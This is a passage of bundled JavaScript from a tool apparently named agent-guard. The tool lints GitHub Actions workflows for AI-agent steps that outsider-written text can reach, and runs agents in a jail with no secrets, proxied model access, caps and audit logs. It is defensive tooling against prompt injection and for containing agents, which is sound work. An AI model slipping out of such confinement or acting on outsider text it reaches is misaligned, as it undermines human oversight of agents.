    if (kind === "workflow" && !isWorkflowPath(ref.path)) return { ok: false, error: `'${uses}' is not a reusable workflow (those live in .github/workflows/)` };
    try {
      const sha = await this.client.resolveRef(ref.owner, ref.repo, ref.ref);
      const candidates = kind === "workflow" ? [ref.path] : ["action.yml", "action.yaml"].map((n) => ref.path ? `${ref.path}/${n}` : n);
      for (const file of candidates) {
        const text = await this.client.fileAt(ref.owner, ref.repo, sha, file);
        if (text === null) continue;
        if (Buffer.byteLength(text) > MAX_FILE_BYTES) return { ok: false, error: `${describeRef(ref)}: file too large to be a workflow or action` };
        const shown = isCommitSha(ref.ref) ? ref.ref.slice(0, 12) : ref.ref;
        const display = `${ref.owner}/${ref.repo}/${file}@${shown}`;
        const remote = { display, text, repository: `${ref.owner}/${ref.repo}`, commit: sha };
        return { ok: true, value: { file: remote, nested: usesIn(kind, text, display, { repository: remote.repository, commit: sha }) } };
      }
      const at = `${ref.ref}${isCommitSha(ref.ref) ? "" : ` (${sha.slice(0, 7)})`}`;
      return {
        ok: false,
        error: kind === "workflow" ? `${describeRef(ref)}: no such file at ${at} (404)` : `${describeRef(ref)}: no action.yml or action.yaml at ${at} (404)`
      };
    } catch (err) {
      return { ok: false, error: err instanceof GitHubError ? err.message : `internal error: ${err.message}` };
    }
  }
};
async function prefetchRemote(roots, options) {
  const maxDepth = options.maxDepth ?? DEFAULT_MAX_DEPTH;
  const results = /* @__PURE__ */ new Map();
  const localFiles = /* @__PURE__ */ new Map();
  const queued = /* @__PURE__ */ new Set();
  const walkedLocal = new Set(roots.map((r) => normalise(r.path) ?? r.path));
  const enqueue = (u, into) => {
    const key2 = `${u.kind}:${u.uses}`;
    if (queued.has(key2)) return;
    queued.add(key2);
    into.push(u);
  };
  const walkLocal = async (u, into) => {
    const rel = normalise(u.uses.replace(/@.*$/, ""));
    if (rel === null) return;
    const candidates = u.kind === "workflow" ? [rel] : ["action.yml", "action.yaml"].map((n) => import_node_path10.default.posix.join(rel, n));
    for (const file of candidates) {
      if (walkedLocal.has(file)) return;
      const text = await options.readLocal(file).catch(() => null);
      if (text === null) continue;
      walkedLocal.add(file);
      localFiles.set(file, text);
      await walkUses(usesIn(u.kind, text, file), into);
      return;
    }
  };
  const walkUses = async (uses, into) => {
    for (const n of uses) {
      if (n.local) await walkLocal(n, into);
      else enqueue(n, into);
    }
  };
  let frontier = [];
  for (const root of roots) await walkUses(usesIn("workflow", root.text, root.path), frontier);
  for (let depth = 1; frontier.length; depth++) {
    const next = [];
    await Promise.all(
      frontier.map(async (u) => {
        const key2 = `${u.kind}:${u.uses}`;
        if (depth > maxDepth) {
          results.set(key2, { error: `not followed: more than ${maxDepth} hops from the repository` });
          return;
        }
        const got = await options.store.get(u.kind, u.uses);
        if (!got.ok) {
          results.set(key2, { error: got.error });
          return;
        }
        results.set(key2, got.value.file);
        await walkUses(got.value.nested, next);
      })
    );
    frontier = next;
  }
  const followed = [];
  const failed = [];
  for (const [key2, value] of results) {
    const uses = key2.slice(key2.indexOf(":") + 1);
    if ("error" in value) failed.push({ uses, error: value.error });
    else followed.push(value.display);
  }
  return { resolver: mapResolver(results), localFiles, followed: followed.sort(), failed: failed.sort((a, b) => a.uses < b.uses ? -1 : a.uses > b.uses ? 1 : 0) };
}
function mapResolver(results) {
  return {
    action: (uses) => results.get(`action:${uses.trim()}`) ?? null,
    workflow: (uses) => results.get(`workflow:${uses.trim()}`) ?? null
  };
}
function mergeResolvers(resolvers) {
  const pick = (answers) => answers.find((a) => a && !("error" in a)) ?? answers.find((a) => a) ?? null;
  return {
    action: (uses) => pick(resolvers.map((r) => r.action(uses))),
    workflow: (uses) => pick(resolvers.map((r) => r.workflow(uses)))
  };
}
function usesIn(kind, text, display, remote) {
  let root;
  try {
    root = loadYaml(makeSourceFile(display, text));
  } catch {
    return [];
  }
  const out = [];
  const step = (uses) => {
    if (!uses) return;
    if (uses.startsWith("./")) return out.push({ kind: "action", uses, local: true });
    if (isDockerUses(uses) || matchAgentAction(uses)) return;
    const ref = parseRemoteUses(uses);
    if (ref && isFirstPartyAction(ref)) return;
    out.push({ kind: "action", uses: uses.trim(), local: false });
  };
  if (kind === "action" || looksLikeAction(root)) {
    const action = buildAction(makeSourceFile(display, text), root);
    if (action.using === "composite") for (const s of action.steps) step(s.uses?.text);
    return out;
  }
  const workflow = buildWorkflow(makeSourceFile(display, text), root);
  for (const job of workflow.jobs) {
    const uses = job.uses?.text.trim();
    if (uses?.startsWith("./")) {
      if (remote) out.push({ kind: "workflow", uses: `${remote.repository}/${uses.slice(2).replace(/@.*$/, "")}@${remote.commit}`, local: false });
      else out.push({ kind: "workflow", uses, local: true });
    } else if (uses) {
      out.push({ kind: "workflow", uses, local: false });
    }
    for (const s of job.steps) step(s.uses?.text);
  }
  return out;
}
function normalise(rel) {
  const n = import_node_path10.default.posix.normalize(rel.replace(/\\/g, "/")).replace(/^\.\/+/, "").replace(/\/+$/, "");
  if (!n || n === "." || n.startsWith("../") || n === ".." || n.startsWith("/")) return null;
  return n;
}
async function prefetchPaths(paths, store, maxDepth) {
  const results = [];
  for (const set of discover(paths, [])) {
    const readLocal = async (rel) => {
      const abs = import_node_path10.default.resolve(set.root, rel);
      const inside = import_node_path10.default.relative(set.root, abs);
      if (inside.startsWith("..") || import_node_path10.default.isAbsolute(inside)) return null;
      try {
        const stat = import_node_fs13.default.statSync(abs);
        return stat.isFile() && stat.size <= MAX_FILE_BYTES ? import_node_fs13.default.readFileSync(abs, "utf8") : null;
      } catch {
        return null;
      }
    };
    const roots = [];
    for (const abs of set.files) {
      const text = await readLocal(import_node_path10.default.relative(set.root, abs));
      if (text !== null) roots.push({ path: import_node_path10.default.relative(set.root, abs).split(import_node_path10.default.sep).join("/"), text });
    }
    results.push(await prefetchRemote(roots, { store, maxDepth, readLocal }));
  }
  return {
    resolver: mergeResolvers(results.map((r) => r.resolver)),
    localFiles: new Map(results.flatMap((r) => [...r.localFiles])),
    followed: [...new Set(results.flatMap((r) => r.followed))].sort(),
    failed: results.flatMap((r) => r.failed)
  };
}

// src/help.ts
var WIDTH = 100;
var SEVERITY_CHOICES = "critical|high|medium|low|none";
var ONLINE_OPTIONS = [
  ["--no-cache", "neither read nor write the cache (~/.cache/agent-guard)"],
  ["--on-rate-limit wait|stop", "at the API rate limit: wait for the reset or stop (default: stop in CI, wait on a terminal)"],
  ["--max-wait SECONDS", "longest total wait for rate limits (default 900)"],
  ["--max-depth N", `remote hops followed (default ${DEFAULT_MAX_DEPTH})`]
];
var GITHUB_ENV = "environment: GITHUB_TOKEN or GH_TOKEN, GITHUB_API_URL (GitHub Enterprise Server), AGENT_GUARD_CACHE_DIR";
var HELP = {
  lint: {
    usage: ["agent-guard lint [PATH...] [options]"],
    about: "Find the AI-agent steps in GitHub Actions workflows that outsider-written text can reach. PATH is a repository root, a .github folder, a workflows folder or workflow files (default: .).",
    options: [
      ["--format text|json|sarif|github", "report format (default text)"],
      ["--fail-on " + SEVERITY_CHOICES, "exit 1 when a finding is at or above this severity (default high)"],
      ["--config FILE", "config file (default .github/agent-guard.yml when present)"],
      ["--output FILE, -o FILE", "write the report to FILE instead of standard output"],
      ["--baseline FILE", "report only findings not recorded in FILE"],
      ["--write-baseline FILE", "record every current finding in FILE (and exit 0)"],
      ["--online", "follow remote actions and reusable workflows through the GitHub API"],
      ...ONLINE_OPTIONS.map(([flag, text]) => [flag, `with --online: ${text}`])
    ],
    notes: [
      "exit: 0 no finding at or above --fail-on (or nothing to lint), 1 such findings, 2 bad usage, a bad config or baseline, or no workflow could be read",
      GITHUB_ENV
    ]
  },
  scan: {
    usage: ["agent-guard scan --org ORG [options]"],
    about: "Lint the workflows of every repository of a GitHub organisation (or user), following remote actions and reusable workflows, and report findings per repository ranked by severity.",
    options: [
      ["--org ORG", "organisation or user to scan (required)"],
      ["--repo-filter GLOB", "only repositories whose name matches (repeatable; e.g. 'api-*')"],
      ["--include-archived", "also scan archived repositories"],
      ["--include-forks", "also scan forks"],
      ["--format text|json|sarif|markdown", "report format (default text; markdown is ready to paste into an issue)"],
      ["--output FILE, -o FILE", "write the report to FILE instead of standard output"],
      ["--fail-on " + SEVERITY_CHOICES, "exit 1 when a finding is at or above this severity (default none)"],
      ["--config FILE", "config applied to every repository (default: each repository's own)"],
      ...ONLINE_OPTIONS
    ],
    notes: ["exit: 0 done, 1 findings at or above --fail-on, 2 bad usage or the organisation could not be listed", GITHUB_ENV]
  },
  run: {
    usage: ["agent-guard run [options] -- CMD [ARG...]"],
    about: "Run an agent command in a jail with no secrets, no network but its model API (through a proxy that holds the key) and nothing of the runner visible. Needs bubblewrap, and root or sudo.",
    options: [
      ["--provider NAME[=UPSTREAM_URL]", "a model provider the agent calls (repeatable): anthropic, openai, gemini, github-models, openrouter"],
      ["--allow-host HOST[:PORT]", "let the agent reach HOST through the egress proxy, CONNECT only (repeatable)"],
      ["--pass-env NAME", "pass variable NAME to the agent (repeatable; tokens, runner variables and loaders never pass)"],
      ["--workspace rw|ro", "the agent's access to the workspace (default rw)"],
      ["--max-requests N", "most model API requests"],
      ["--max-tokens N", "most model tokens (input + output)"],
      ["--audit FILE", "write every model and egress request as JSON lines to FILE"],
      ["--timeout SECONDS", "stop the agent after SECONDS (exit 124)"],
      ["--allow-provider-fetch", "let provider-side tools that fetch URLs through (web fetch and search, MCP servers, URL sources)"]
    ],
    notes: ["exit: the agent's exit code; 124 on --timeout; 125 when the guard could not set up a layer (one line says which and why)"]
  },
  doctor: {
    usage: ["agent-guard doctor [--json]"],
    about: "Say which isolation layers this machine supports, and whether `agent-guard run` can run here.",
    options: [["--json", "the report as JSON"]],
    notes: ["exit: 0 the guard can run here, 1 it cannot, 125 bad usage"]
  },
  wrap: {
    usage: ["agent-guard wrap claude [--install DIR] [--claude PATH] [--allow-on-untrusted] [-- GUARD_OPTION...]"],
    about: "Write a stand-in for Claude Code that runs the real one under `agent-guard run`, for actions that start Claude Code themselves (claude-code-action: give it to path_to_claude_code_executable). Without --install, print it.",
    options: [
      ["--install DIR", "install the wrapper as DIR/claude (outside the workspace) and print its path"],
      ["--claude PATH", "the real Claude Code executable (default: claude on PATH)"],
      ["--allow-on-untrusted", "keep --allow-host and --pass-env when the triggering input is outsider-controlled"],
      ["-- GUARD_OPTION...", "`agent-guard run` options for the wrapper (default --provider anthropic)"]
    ],
    notes: ["exit: 0 written, 125 bad usage"]
  },
  action: {
    usage: ["agent-guard action lint|run|wrap"],
    about: "The GitHub Action's entry points (action.yml runs them): each reads its inputs from INPUT_* variables, writes outputs to GITHUB_OUTPUT and the job summary to GITHUB_STEP_SUMMARY. See README.md, Inputs.",
    options: [],
    notes: ["exit: as lint, run or wrap; 2 on a bad input"]
  },
  version: {
    usage: ["agent-guard version"],
    about: "Print the version.",
    options: []
  }
};
var GENERAL_HELP = {
  usage: ["agent-guard COMMAND [options]", "agent-guard COMMAND --help"],
  about: "Find AI-agent steps outsiders can reach (lint, scan), and run agents in a jail (run, wrap).",
  options: [
    ["lint [PATH...]", "find AI-agent steps outsiders can reach (default PATH: .)"],
    ["scan --org ORG", "lint every repository of an organisation online"],
    ["run [options] -- CMD", "run an agent in the jail"],
    ["doctor", "what isolation this machine supports"],
    ["wrap claude", "a Claude Code wrapper that runs it under the guard"],
    ["action lint|run|wrap", "the GitHub Action's entry points"],
    ["version", "print the version"]
  ]
};
function formatHelp(help, heading = "options") {
  const out = help.usage.map((u, i) => `${i === 0 ? "usage:" : "      "} ${u}`);
  out.push("", ...wrap(help.about, WIDTH), "");
  if (help.options.length) {
    const width = Math.min(32, Math.max(...help.options.map(([flag]) => flag.length)));
    out.push(`${heading}:`);
    const hang = " ".repeat(width + 4);
    for (const [flag, text] of help.options) {
      const lines = wrap(text, WIDTH - hang.length).map((l) => hang + l);
      if (flag.length > width) out.push(`  ${flag}`, ...lines);
      else out.push(`  ${flag.padEnd(width)}  ${lines[0].trimStart()}`, ...lines.slice(1));
    }
    out.push("");
  }
  if (help.notes?.length) out.push(...help.notes.flatMap((n) => wrap(n, WIDTH)), "");
  return out.join("\n");
}
function helpFor(command2) {
  const known = command2 !== void 0 ? HELP[command2] : void 0;
  return known ? formatHelp(known) : formatHelp(GENERAL_HELP, "commands");
}
function asksForHelp(args) {
  const end = args.indexOf("--");
  return (end < 0 ? args : args.slice(0, end)).some((a) => a === "--help" || a === "-h");
}

// src/online/cache.ts
var import_node_crypto4 = __toESM(require("node:crypto"));
var import_node_fs14 = __toESM(require("node:fs"));
var import_node_os5 = __toESM(require("node:os"));
var import_node_path11 = __toESM(require("node:path"));
function defaultCacheDir(env = process.env) {
  if (env.AGENT_GUARD_CACHE_DIR) return import_node_path11.default.resolve(env.AGENT_GUARD_CACHE_DIR);
  const base = env.XDG_CACHE_HOME ? import_node_path11.default.resolve(env.XDG_CACHE_HOME) : import_node_path11.default.join(import_node_os5.default.homedir(), ".cache");
  return import_node_path11.default.join(base, "agent-guard");
}
var DiskCache = class {
  /** `dir` null: a cache that remembers nothing (`--no-cache`). */
  constructor(dir, warn = () => {
  }) {
    this.warn = warn;
    this.dir = dir ? import_node_path11.default.join(dir, "v1") : null;
  }
  warn;
  dir;
  warned = false;
  hits = 0;
  writes = 0;
  get enabled() {
    return this.dir !== null;
  }
  get(space, key2) {
    if (!this.dir) return void 0;
    try {
      const stored = JSON.parse(import_node_fs14.default.readFileSync(this.file(space, key2), "utf8"));
      if (stored.key !== key2 || stored.value === void 0) return void 0;
      this.hits++;
      return stored.value;
    } catch {
      return void 0;
    }
  }
  set(space, key2, value) {
    if (!this.dir) return;
    const file = this.file(space, key2);
    const tmp = `${file}.${process.pid}.${import_node_crypto4.default.randomBytes(4).toString("hex")}.tmp`;
    try {
      import_node_fs14.default.mkdirSync(import_node_path11.default.dirname(file), { recursive: true });
      import_node_fs14.default.writeFileSync(tmp, JSON.stringify({ key: key2, value }));
      import_node_fs14.default.renameSync(tmp, file);
      this.writes++;
    } catch (err) {
      try {
        import_node_fs14.default.rmSync(tmp, { force: true });
      } catch {
      }
      if (!this.warned) {
        this.warned = true;
        this.warn(`cache disabled: cannot write ${this.dir} (${err.code ?? err.message})`);
      }
      this.dir = null;
    }
  }
  file(space, key2) {
    const hash = import_node_crypto4.default.createHash("sha256").update(key2).digest("hex");
    return import_node_path11.default.join(this.dir, space, hash.slice(0, 2), `${hash}.json`);
  }
};

// src/online/report.ts
var SCAN_FORMATS = ["text", "json", "sarif", "markdown"];
function isScanFormat(s) {
  return SCAN_FORMATS.includes(s);
}
function formatScan(scan, format, opts) {
  switch (format) {
    case "markdown":
      return formatMarkdown(scan, opts);
    case "text":
      return formatText2(scan, opts);
    case "json":
      return `${JSON.stringify(toScanJson(scan, opts), null, 2)}
`;
    case "sarif":
      return `${JSON.stringify(toScanSarif(scan, opts), null, 2)}
`;
    default: {
      const never = format;
      throw new Error(`unknown scan format ${String(never)}`);
    }
  }
}
function rankRepositories(scan) {
  return scan.repos.map((outcome) => {
    const findings = bySeverity(outcome.result?.findings ?? []);
    const counts = countBySeverity(findings);
    return { outcome, findings, counts, worst: findings[0]?.severity ?? null };
  }).sort((a, b) => {
    for (const s of SEVERITIES) if (a.counts[s] !== b.counts[s]) return b.counts[s] - a.counts[s];
    return cmpStr(a.outcome.repo.fullName.toLowerCase(), b.outcome.repo.fullName.toLowerCase());
  });
}
function scanTotals(scan) {
  const scanned = scan.repos.filter((r) => r.status === "scanned");
  const all = scanned.flatMap((r) => r.result.findings);
  const has = (r, s) => r.result.findings.some((f) => f.severity === s);
  return {
    listed: scan.listed,
    scanned: scanned.length,
    withCritical: scanned.filter((r) => has(r, "critical")).length,
    withHigh: scanned.filter((r) => has(r, "high")).length,
    withFindings: scanned.filter((r) => r.result.findings.length).length,
    withoutFindings: scanned.filter((r) => !r.result.findings.length).length,
    failed: scan.repos.filter((r) => r.status === "failed").length,
    noWorkflows: scan.repos.filter((r) => r.status === "no-workflows").length,
    empty: scan.repos.filter((r) => r.status === "empty").length,
    withFileErrors: scanned.filter((r) => r.result.errors.length).length,
    skipped: scan.skipped,
    findings: countBySeverity(all)
  };
}
function topRules(scan) {
  const byRule = /* @__PURE__ */ new Map();
  for (const r of scan.repos) {
    const seen = /* @__PURE__ */ new Set();
    for (const f of r.result?.findings ?? []) {
      let t = byRule.get(f.rule);
      if (!t) byRule.set(f.rule, t = { rule: f.rule, findings: 0, repositories: 0, worst: f.severity });
      t.findings++;
      if (severityRank(f.severity) > severityRank(t.worst)) t.worst = f.severity;
      if (!seen.has(f.rule)) {
        seen.add(f.rule);
        t.repositories++;
      }
    }
  }
  return [...byRule.values()].sort((a, b) => b.findings - a.findings || severityRank(b.worst) - severityRank(a.worst) || cmpStr(a.rule, b.rule));
}
function bySeverity(findings) {
  return sortFindings(findings).sort((a, b) => severityRank(b.severity) - severityRank(a.severity));
}
function docsOf(scan, rule) {
  for (const r of scan.repos) {
    const meta = r.result?.rules.find((m) => m.id === rule);
    if (meta) return meta.docs;
  }
  return void 0;
}
var REMOTE_FILE = /^([A-Za-z0-9][A-Za-z0-9-]*)\/([A-Za-z0-9._-]+)\/(.+)@([^@/]+)$/;
function lineUrl(outcome, file, line) {
  const remote = REMOTE_FILE.exec(file);
  let web;
  try {
    web = new URL(outcome.repo.htmlUrl);
  } catch {
    return void 0;
  }
  if (remote) return `${web.origin}/${remote[1]}/${remote[2]}/blob/${encodeURIComponent(remote[4])}/${remote[3]}#L${line}`;
  if (!outcome.commit) return void 0;
  return `${outcome.repo.htmlUrl}/blob/${outcome.commit}/${file}#L${line}`;
}
function skippedText(s) {
  const parts = [
    s.archived ? `${s.archived} archived` : "",
    s.forks ? plural(s.forks, "fork") : "",
    s.disabled ? `${s.disabled} disabled` : "",
    s.filtered ? `${s.filtered} filtered out` : ""
  ].filter(Boolean);
  return parts.join(", ");
}
function requestsText(scan) {
  const s = scan.stats;
  const parts = [`${plural(s.requests, "API request")} (${s.notModified} answered 304, which costs no rate limit)`, `${plural(s.cacheHits, "cache hit")}`];
  if (s.waitedMs) parts.push(`waited ${duration(s.waitedMs)} for the rate limit`);
  parts.push(`took ${(s.durationMs / 1e3).toFixed(1)} s`);
  return parts.join(" \xB7 ");
}
function statusText(outcome) {
  switch (outcome.status) {
    case "no-workflows":
      return "no workflows";
    case "empty":
      return "empty repository";
    default:
      return outcome.error ?? outcome.status;
  }
}
var MARKDOWN_BUDGET = 6e4;
function cell(text) {
  return sanitizeTerminal(text).replace(/\r?\n/g, " ").replace(/\|/g, "\\|").split("`").map((part, i) => i % 2 ? part : part.replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/@(?=[A-Za-z0-9])/g, "@\u200B")).join("`");
}
function code2(text) {
  return `\`${sanitizeTerminal(text).replace(/\r?\n/g, " ").replace(/`/g, "'").replace(/\|/g, "\\|")}\``;
}
function formatMarkdown(scan, opts) {
  const maxRows = opts.maxRowsPerRepo ?? 20;
  const t = scanTotals(scan);
  const ranked = rankRepositories(scan);
  const out = [];
  out.push(`## agent-guard scan of ${code2(scan.org)}`, "");
  const skipped = skippedText(t.skipped);
  out.push(
    `Scanned the workflows of **${t.scanned}** of ${plural(t.listed, "repository", "repositories")} at the head of their default branch, following remote actions and reusable workflows${skipped ? ` (skipped: ${skipped})` : ""}. **${t.withCritical}** ${t.withCritical === 1 ? "has" : "have"} critical findings and **${t.withHigh}** high.`,
    ""
  );
  out.push("| repositories | count |", "|---|---:|");
  out.push(`| scanned | ${t.scanned} |`);
  out.push(`| with critical findings | ${t.withCritical} |`);
  out.push(`| with high findings | ${t.withHigh} |`);
  out.push(`| with any finding | ${t.withFindings} |`);
  out.push(`| without findings | ${t.withoutFindings} |`);
  out.push(`| with files that could not be read | ${t.withFileErrors} |`);
  out.push(`| not scanned: failed | ${t.failed} |`);
  out.push(`| not scanned: no workflows or empty | ${t.noWorkflows + t.empty} |`);
  out.push(`| skipped: archived / forks / filtered | ${t.skipped.archived} / ${t.skipped.forks} / ${t.skipped.filtered} |`, "");
  out.push("| severity | findings |", "|---|---:|");
  for (const s of SEVERITIES) out.push(`| ${s} | ${t.findings[s]} |`);
  out.push("");
  const rules = topRules(scan);
  if (rules.length) {
    out.push("### Top rules", "", "| rule | findings | repositories | worst |", "|---|---:|---:|---|");
    for (const r of rules.slice(0, 10)) {
      const docs = docsOf(scan, r.rule);
      out.push(`| ${docs ? `[${r.rule}](${docs})` : r.rule} | ${r.findings} | ${r.repositories} | ${r.worst} |`);
    }
    out.push("");
  }
  const withFindings = ranked.filter((r) => r.findings.length);
  if (withFindings.length) out.push("### Findings by repository", "");
  let left = 0;
  for (const [i, r] of withFindings.entries()) {
    const section = [];
    const o = r.outcome;
    section.push(`#### [${cell(o.repo.fullName)}](${o.repo.htmlUrl}) \u2014 ${severityBreakdown(r.counts)}`, "");
    section.push("| severity | rule | where | finding |", "|---|---|---|---|");
    for (const f of r.findings.slice(0, maxRows)) {
      const url = lineUrl(o, f.file, f.line);
      const where = code2(`${f.file}:${f.line}`);
      const job = [f.job && `job ${code2(f.job)}`, f.step && `step ${code2(f.step)}`].filter(Boolean).join(", ");
      section.push(`| **${f.severity}** | ${f.rule} | ${url ? `[${where}](${url})` : where}${job ? `<br>${job}` : ""} | ${cell(f.message)} |`);
    }
    if (r.findings.length > maxRows) section.push("", `\u2026and ${r.findings.length - maxRows} more (\`--format json\` has them all).`);
    section.push("");
    if (out.join("\n").length + section.join("\n").length > MARKDOWN_BUDGET) {
      left = withFindings.length - i;
      break;
    }
    out.push(...section);
  }
  if (left) out.push(`${plural(left, "more repository", "more repositories")} with findings not shown: a GitHub issue holds 65,536 characters; \`--format json\` has them all.`, "");
  const notScanned = ranked.filter((r) => r.outcome.status === "failed");
  if (notScanned.length) {
    out.push("### Not scanned", "", "| repository | why |", "|---|---|");
    for (const r of notScanned.slice(0, 100)) out.push(`| [${cell(r.outcome.repo.fullName)}](${r.outcome.repo.htmlUrl}) | ${cell(statusText(r.outcome))} |`);
    if (notScanned.length > 100) out.push(`| \u2026 | ${notScanned.length - 100} more |`);
    out.push("");
  }
  const fileErrors = ranked.filter((r) => r.outcome.result?.errors.length);
  if (fileErrors.length) {
    out.push("<details><summary>Files that could not be read</summary>", "");
    for (const r of fileErrors.slice(0, 50)) {
      for (const e of r.outcome.result.errors.slice(0, 5)) out.push(`- ${code2(r.outcome.repo.fullName)} ${code2(`${e.file}:${e.line}`)}: ${cell(e.message)}`);
    }
    out.push("", "</details>", "");
  }
  const clean = ranked.filter((r) => r.outcome.status === "scanned" && !r.findings.length).map((r) => code2(r.outcome.repo.name));
  if (clean.length && out.join("\n").length < MARKDOWN_BUDGET) {
    const list = clean.join(", ");
    out.push(`<details><summary>${plural(clean.length, "repository", "repositories")} without findings</summary>`, "", list.length < 4e3 ? list : `${list.slice(0, list.lastIndexOf(",", 4e3))}, \u2026`, "", "</details>", "");
  }
  out.push(`<sub>${TOOL_NAME} ${opts.toolVersion} \xB7 ${cell(requestsText(scan))}</sub>`);
  return `${out.join("\n")}
`;
}
function formatText2(scan, opts) {
  const maxRows = opts.maxRowsPerRepo ?? 20;
  const t = scanTotals(scan);
  const clean = (s) => sanitizeTerminal(s).replace(/\n/g, " ");
  const out = [];
  const skipped = skippedText(t.skipped);
  out.push(`agent-guard scan of ${clean(scan.org)}: ${t.scanned} of ${plural(t.listed, "repository", "repositories")} scanned${skipped ? ` (skipped: ${skipped})` : ""}`, "");
  const rows = [
    ["with critical findings", String(t.withCritical)],
    ["with high findings", String(t.withHigh)],
    ["with any finding", String(t.withFindings)],
    ["without findings", String(t.withoutFindings)],
    ["failed", String(t.failed)],
    ["no workflows or empty", String(t.noWorkflows + t.empty)],
    ["findings", severityBreakdown(t.findings) || "none"]
  ];
  for (const [k, v] of rows) out.push(`  ${k.padEnd(24)} ${v}`);
  const rules = topRules(scan);
  if (rules.length) {
    out.push("", "Top rules");
    for (const r of rules.slice(0, 10)) out.push(`  ${r.rule.padEnd(24)} ${plural(r.findings, "finding")} in ${plural(r.repositories, "repository", "repositories")} (worst: ${r.worst})`);
  }
  for (const r of rankRepositories(scan)) {
    if (!r.findings.length) continue;
    out.push("", `${clean(r.outcome.repo.fullName)}: ${severityBreakdown(r.counts)}  (${r.outcome.repo.htmlUrl} @ ${r.outcome.commit?.slice(0, 7) ?? "?"})`);
    for (const f of r.findings.slice(0, maxRows)) {
      const where = `${clean(f.file)}:${f.line}:${f.column}`;
      out.push(`  ${f.severity.padEnd(8)} ${f.rule.padEnd(22)} ${where}${f.job ? `  job ${clean(f.job)}` : ""}${f.step ? `, step ${clean(f.step)}` : ""}`);
      out.push(`           ${clean(f.message)}`);
    }
    if (r.findings.length > maxRows) out.push(`  \u2026and ${r.findings.length - maxRows} more (--format json has them all)`);
  }
  const failed = scan.repos.filter((r) => r.status === "failed");
  if (failed.length) {
    out.push("", "Not scanned");
    for (const r of failed) out.push(`  ${clean(r.repo.fullName)}: ${clean(statusText(r))}`);
  }
  const fileErrors = scan.repos.filter((r) => r.result?.errors.length);
  if (fileErrors.length) {
    out.push("", "Files that could not be read");
    for (const r of fileErrors) for (const e of r.result.errors) out.push(`  ${clean(r.repo.fullName)} ${clean(e.file)}:${e.line}: ${clean(e.message)}`);
  }
  out.push("", requestsText(scan));
  return `${out.join("\n")}
`;
}
function toScanJson(scan, opts) {
  return {
    version: 1,
    tool: { name: TOOL_NAME, version: opts.toolVersion, informationUri: TOOL_URI },
    organisation: scan.org,
    totals: scanTotals(scan),
    topRules: topRules(scan),
    repositories: rankRepositories(scan).map((r) => {
      const json = r.outcome.result ? toJsonReport(r.outcome.result, { toolVersion: opts.toolVersion }) : null;
      return {
        name: r.outcome.repo.fullName,
        url: r.outcome.repo.htmlUrl,
        defaultBranch: r.outcome.repo.defaultBranch,
        commit: r.outcome.commit ?? null,
        status: r.outcome.status,
        error: r.outcome.status === "scanned" ? null : statusText(r.outcome),
        counts: r.counts,
        findings: json ? json.findings.sort((a, b) => severityRank(b.severity) - severityRank(a.severity)) : [],
        errors: json?.errors ?? [],
        unfollowed: r.outcome.unfollowed
      };
    }),
    requests: scan.stats
  };
}
var EMPTY = {
  findings: [],
  errors: [],
  stats: { files: 0, workflows: 0, actions: 0, jobs: 0, steps: 0, agentSteps: 0, durationMs: 0 },
  rules: [],
  sources: /* @__PURE__ */ new Map()
};
function toScanSarif(scan, opts) {
  const runs = [];
  for (const r of rankRepositories(scan)) {
    const o = r.outcome;
    if (o.status === "no-workflows" || o.status === "empty") continue;
    const run = toSarif(o.result ?? EMPTY, { toolVersion: opts.toolVersion }).runs[0];
    run.automationDetails = { id: `agent-guard-scan/${o.repo.fullName}/` };
    if (o.commit) run.versionControlProvenance = [{ repositoryUri: o.repo.htmlUrl, revisionId: o.commit, branch: o.repo.defaultBranch }];
    if (o.status === "failed") run.invocations = [{ executionSuccessful: false, toolExecutionNotifications: [{ level: "error", message: { text: statusText(o) } }] }];
    runs.push(run);
  }
  return { $schema: SARIF_SCHEMA_URI, version: "2.1.0", runs };
}

// src/online/scan.ts
async function scanOrganisation(options) {
  const started = performance.now();
  const { client } = options;
  const listed = await client.listRepositories(options.org);
  const skipped = { archived: 0, forks: 0, disabled: 0, filtered: 0 };
  const chosen = [];
  for (const repo of listed) {
    if (options.repoFilter?.length && !options.repoFilter.some((g) => globMatch(g, repo.fullName) || globMatch(g, repo.name))) skipped.filtered++;
    else if (repo.archived && !options.includeArchived) skipped.archived++;
    else if (repo.fork && !options.includeForks) skipped.forks++;
    else if (repo.disabled) skipped.disabled++;
    else chosen.push(repo);
  }
  options.onStart?.(chosen.length);
  const store = new RemoteStore(client);
  const outcomes = new Array(chosen.length);
  let next = 0;
  let done = 0;
  const worker = async () => {
    while (next < chosen.length) {
      const index2 = next++;
      outcomes[index2] = await scanRepository(chosen[index2], store, options);
      done++;
      options.onRepository?.(outcomes[index2], done, chosen.length);
    }
  };
  await Promise.all(Array.from({ length: Math.min(chosen.length, Math.max(1, options.concurrency ?? 8)) }, worker));
  return {
    org: options.org,
    listed: listed.length,
    skipped,
    repos: outcomes,
    stats: { ...client.stats, durationMs: Math.round(performance.now() - started), cacheHits: client.cache.hits, remoteFiles: store.counts.asked }
  };
}
async function scanRepository(repo, store, options) {
  const client = options.client;
  try {
    const commit = await client.headOf(repo);
    const tree = await client.treeOf(repo.owner, repo.name, commit);
    if (!tree.workflows.length) return { repo, status: "no-workflows", commit, unfollowed: [] };
    const roots = await Promise.all(tree.workflows.map(async (w) => ({ path: w.path, text: await client.blob(repo.owner, repo.name, w.sha) })));
    const readLocal = async (rel) => {
      const blob = tree.blobs[rel];
      if (blob) return client.blob(repo.owner, repo.name, blob);
      return tree.complete ? null : client.fileAt(repo.owner, repo.name, commit, rel);
    };
    const prefetched = await prefetchRemote(roots, { store, readLocal, maxDepth: options.maxDepth });
    const files = [...roots, ...[...prefetched.localFiles].map(([path14, text]) => ({ path: path14, text }))];
    const config = options.config ?? await repositoryConfig((name) => tree.blobs[name] ? client.blob(repo.owner, repo.name, tree.blobs[name]) : tree.complete ? Promise.resolve(null) : client.fileAt(repo.owner, repo.name, commit, name));
    const result = lint({ paths: [], files, remote: prefetched.resolver, config });
    return { repo, status: "scanned", commit, result, unfollowed: prefetched.failed };
  } catch (err) {
    if (err instanceof ConfigError) return { repo, status: "failed", error: `${repo.fullName}: ${err.message}`, unfollowed: [] };
    if (err instanceof GitHubError && err.kind === "empty") return { repo, status: "empty", error: "the repository is empty", unfollowed: [] };
    const message = err instanceof GitHubError ? err.message : `internal error: ${err.message}`;
    return { repo, status: "failed", error: message, unfollowed: [] };
  }
}
async function repositoryConfig(read2) {
  for (const name of [".github/agent-guard.yml", ".github/agent-guard.yaml"]) {
    const text = await read2(name);
